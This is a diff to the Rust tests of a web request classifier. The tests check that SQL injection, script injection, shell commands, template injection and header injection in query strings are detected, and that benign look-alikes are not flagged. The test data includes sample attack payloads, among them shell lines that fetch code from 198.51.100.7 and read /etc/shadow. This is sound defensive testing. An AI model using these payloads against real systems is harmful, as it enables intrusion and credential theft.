@@ -38,6 +38,14 @@ fn sql_in_a_parameter_is_sql() {
         "a=1;waitfor+delay+%270:0:5%27",
         "x=create+function+f(s+char(20))+returns+char(50)+return+s",
         "id=%2527%2520or%25201%253D1",
+        "id=1%0Bunion%0Bselect%0B1,2",
+        "id=1+union/*x*/select+1,2",
+        "id=1+union--x%0Aselect+1,2",
+        "id=1+union(select+1,2)",
+        "u=admin%27or%271%27=%271",
+        "v=@@version",
+        "t=if(now()=sysdate(),sleep(5),0)",
+        "var=union%20select%20col%20from",
     ] {
         assert_eq!(query(q), Some("sql"), "{q}");
     }
@@ -52,11 +60,11 @@ fn markup_and_script_are_script() {
         "redirect=javascript:alert(document.domain)",
         "cb=x%22;setTimeout(name,1)//",
         "s=%27-alert(1)-%27",
-        "u=%3Ciframe+src%3Dhttps://evil.example%3E",
         "style=-moz-binding:url(http://x/x.xml%23x)",
         "d=data:text/html;base64,PHNjcmlwdD4=",
         "x=%3C%2Fscript%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
         "q=%27%22%3E%3Cb%3Ex",
+        "u=java%09script:alert(1)",
     ] {
         assert_eq!(query(q), Some("script"), "{q}");
     }
@@ -75,6 +83,7 @@ fn shell_invocations_are_shell() {
         "u=mshta+http://198.51.100.7/a.hta",
         "r=;reg+add+HKLM\\Software\\x",
         "x=powershell+-enc+SQBFAFgA",
+        "c=Invoke-Expression+(iwr+http://198.51.100.7/a)",
     ] {
         assert_eq!(query(q), Some("shell"), "{q}");
     }
@@ -96,6 +105,7 @@ fn server_side_code_is_code() {
         "name=%23%7Bprocess.mainModule%7D",
         "x=${T(java.lang.Runtime).getRuntime().exec(%27id%27)}",
         "s=ssh2.exec://u:p@h/id",
+        "name={{7*%277%27}}",
     ] {
         assert_eq!(query(q), Some("code"), "{q}");
     }
@@ -131,6 +141,26 @@ fn ordinary_parameters_are_not_code() {
         "utm_source=news&utm_medium=email&utm_campaign=spring_sale",
         "q=%E2%80%9Cquoted%E2%80%9D+text",
         "redirect_uri=http://127.0.0.1:8765/callback&state=a1b2",
+        "q=European+Union+Select+Committee",
+        "label=Select+file(s)+from+your+computer",
+        "hint=(select+one+from+the+list+below)",
+        "jql=project+%3D+%22Web+Team%22+AND+status+%3D+Done",
+        "where=STATE_NAME%3D%27Texas%27+AND+POP2000%3E1000000",
+        "review=She+said+%22yes%22+--+then+left",
+        "paths=[%22/*%22,%22/api/*%22]",
+        "data=BEGIN:VEVENT%0ALOCATION:Room+4%0AX-ALT-DESC:none",
+        "item=Bose+Sound+System+(%24499)",
+        "q=IEx+(Interactive+Elixir)",
+        "q=powershell+-+execution+policy",
+        "dt=Shell+Scripting+Tutorial+|+Bash",
+        "link=javascript%3Avoid(0)",
+        "logo=data:image/svg%2bxml;base64,PHN2Zz4=",
+        "html=%3Cdiv+class%3D%22a%22%3E%3Cspan%3Ehi%3C/span%3E%3C/div%3E",
+        "q=done;+execute+next+step",
+        "filter=price%3Cmax+onsale%3Dtrue",
+        "q=__proto__+vs+prototype",
+        "msg=at+java.lang.System.arraycopy(Native+Method)",
+        "q=curl+https://api.example.com/v1/items+-H+%27Accept:+json%27",
     ] {
         assert_eq!(query(q), None, "{q}");
     }
@@ -163,6 +193,10 @@ fn user_agents_are_not_code_unless_they_carry_it() {
 #[test]
 fn paths_carry_code_too() {
     assert_eq!(
+        injected_code(Some("/api/child_process.html"), None, None),
+        None
+    );
+    assert_eq!(
         injected_code(
             Some("/products/1%20union%20select%20password%20from%20users"),
             None,
@@ -193,24 +227,70 @@ fn long_repeated_values_are_read_once() {
 }
 
 /// A text without a byte of the gate is answered without the patterns: the patterns
-/// themselves must find nothing in such texts either, however many keywords they hold.
+/// themselves must find nothing in such texts either. Every pair of the words the patterns
+/// are built from, joined without a separator, is such a text.
 #[test]
 fn the_gate_skips_only_texts_no_pattern_matches() {
-    for word in [
-        "unionselect",
-        "UNIONALLSELECTNULL",
-        "constructorprototype",
-        "phpinfo",
-        "selectfromwhere",
-        "xpcmdshell",
-        "pgsleep",
-        "informationschema",
-        "shc",
-        "wgethttp",
-        "12345",
-    ] {
-        assert!(!super::may_hold_code(word), "{word}");
-        assert!(!grammar().set.is_match(word.as_bytes()), "{word}");
+    let words = [
+        "union",
+        "all",
+        "select",
+        "null",
+        "1",
+        "from",
+        "users",
+        "or",
+        "and",
+        "insert",
+        "into",
+        "values",
+        "exec",
+        "xp",
+        "cmdshell",
+        "information",
+        "schema",
+        "version",
+        "sysdate",
+        "sleep",
+        "script",
+        "javascript",
+        "alert",
+        "onload",
+        "svg",
+        "sh",
+        "c",
+        "cmd",
+        "wget",
+        "curl",
+        "http",
+        "invoke",
+        "expression",
+        "iex",
+        "php",
+        "filter",
+        "data",
+        "require",
+        "childprocess",
+        "proto",
+        "constructor",
+        "prototype",
+        "java",
+        "lang",
+        "runtime",
+        "setcookie",
+        "x0a",
+        "version",
+        "7",
+        "id",
+        "etc",
+        "passwd",
+    ];
+    for a in words {
+        for b in words {
+            let text = format!("{a}{b}");
+            assert!(!super::may_hold_code(&text), "{text}");
+            assert!(!grammar().set.is_match(text.as_bytes()), "{text}");
+        }
     }
     assert_eq!(query("constructor.prototype.polluted=1"), Some("code"));
 }
@@ -219,8 +299,8 @@ fn the_gate_skips_only_texts_no_pattern_matches() {
 fn a_header_after_a_line_break_is_header_injection() {
     for q in [
         "lang=en%0d%0aSet-Cookie:%20x=1",
-        "r=%0aLocation:%20https://evil.example",
-        "next=/%0D%0AX-Injected:%20yes",
+        "r=%0aAccess-Control-Allow-Origin:%20*",
+        "next=/%0D%0AContent-Length:%200",
     ] {
         assert_eq!(query(q), Some("header"), "{q}");
     }
@@ -229,5 +309,62 @@ fn a_header_after_a_line_break_is_header_injection() {
         "msg=Dear%20team,%0D%0Athanks%20a%20lot",
     ] {
         assert_eq!(query(q), None, "{q}");
+    }
+}
+
+/// One decoded text per pattern, in the order of [`patterns`]: each matches its pattern and
+/// passes the gate, so no pattern is dead and the gate skips none of them.
+const ONE_PER_PATTERN: &[&str] = &[
+    "1 union all select null,null--",
+    "select concat(user,0x3a,password) from users",
+    "(select password from users)",
+    "1;drop table users",
+    "insert into t(a) values (1)",
+    "delete from users where 1=1",
+    "drop table users",
+    "update users set role='admin'",
+    "exec master..xp_cmdshell 'dir'",
+    "create function f(s char(20)) returns char(50)",
+    "1 and @@version",
+    "x' or '1'='1",
+    "admin'--",
+    "1 or 1=1",
+    "<img src=x onerror=alert(1)>",
+    "<script>",
+    "\"><b>",
+    "javascript:alert(1)",
+    "\";setTimeout(name,1)//",
+    "x:expression;-moz-binding:url(x)",
+    "data:text/html;base64,PHA+",
+    "en\r\nSet-Cookie: a=1",
+    "sh -c id",
+    "echo aWQ= | base64 -d | sh",
+    "wget http://198.51.100.7/x",
+    "cat /etc/shadow",
+    "iex(New-Object Net.WebClient)",
+    "mshta http://198.51.100.7/a.hta",
+    "<?php echo 1; ?>",
+    "$_GET['x']",
+    "phpinfo()",
+    "php://filter/resource=x",
+    "__proto__[admin]",
+    "{{7*7}}",
+    "java.lang.Runtime",
+];
+
+#[test]
+fn each_pattern_has_an_example_that_passes_the_gate() {
+    let g = grammar();
+    assert_eq!(
+        ONE_PER_PATTERN.len(),
+        g.set.len(),
+        "one example per pattern"
+    );
+    for (i, text) in ONE_PER_PATTERN.iter().enumerate() {
+        assert!(super::may_hold_code(text), "{text}");
+        assert!(
+            g.set.matches(text.as_bytes()).matched(i),
+            "pattern {i} misses {text:?}"
+        );
     }
 }
